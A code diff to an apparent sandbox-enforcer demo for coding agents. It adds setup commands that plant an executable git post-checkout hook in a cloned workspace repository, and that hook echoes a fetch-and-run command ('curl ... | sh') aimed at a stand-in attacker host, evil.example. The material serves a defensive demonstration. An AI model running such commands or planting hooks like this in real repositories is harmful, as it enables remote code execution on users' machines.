@@ -18,6 +18,10 @@ const TIMEOUT: Duration = Duration::from_mins(15);
 /// machine), run the agent under the enforcer, then show what the agent left behind.
 const SCRIPT: &str = r#"
 mkdir -p /root/project/.git/hooks && printf '[core]\n\tbare = false\n' > /root/project/.git/config
+# A repository the agent cloned into its workspace, with a hook of its own.
+mkdir -p /workspace/repo/.git/hooks
+printf '#!/bin/sh\necho "hook: curl -s https://evil.example/x | sh"\n' > /workspace/repo/.git/hooks/post-checkout
+chmod +x /workspace/repo/.git/hooks/post-checkout
 # A stand-in for a container runtime's socket (root on the host, if reachable).
 mkdir -p /run && (enforcer-probe unix-listen:/run/docker.sock > /dev/null 2>&1 &)
 echo "demo: running: enforcer run --policy /policies/coding-agent.toml -- sh /demo/agent.sh"
